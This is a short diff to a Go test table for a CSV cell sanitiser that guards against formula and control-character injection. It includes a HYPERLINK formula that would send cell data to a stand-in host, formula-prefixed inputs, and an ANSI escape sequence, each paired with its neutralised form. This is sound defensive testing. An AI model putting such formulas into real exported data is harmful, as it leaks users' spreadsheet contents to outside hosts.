@@ -31,7 +31,8 @@ func TestTerminal(t *testing.T) {
 func TestCSVCell(t *testing.T) {
 	tests := []struct{ in, want string }{
 		{`=HYPERLINK("http://x?"&A1,"click")`, `'=HYPERLINK("http://x?"&A1,"click")`},
-		{"+1", "'+1"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
+		{"+1", "'+1"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", `'\tx`}, {"\rx", `'\rx`},
+		{"a\x1b[2Kb", `a\x1b[2Kb`},
 		{"laptop", "laptop"}, {"", ""}, {"a=b", "a=b"},
 	}
 	for _, tt := range tests {
